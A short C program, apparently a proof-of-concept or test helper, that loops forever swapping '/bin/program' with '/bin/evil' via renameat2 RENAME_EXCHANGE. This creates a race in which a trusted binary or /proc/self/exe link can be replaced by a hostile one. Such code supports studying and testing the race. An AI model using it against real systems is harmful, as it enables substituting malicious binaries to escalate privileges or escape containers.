/* Swaps a program and a link to /proc/self/exe for ever. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
	for (;;)
		if (renameat2(AT_FDCWD, "/bin/program", AT_FDCWD, "/bin/evil", RENAME_EXCHANGE) != 0)
			return 1;
}
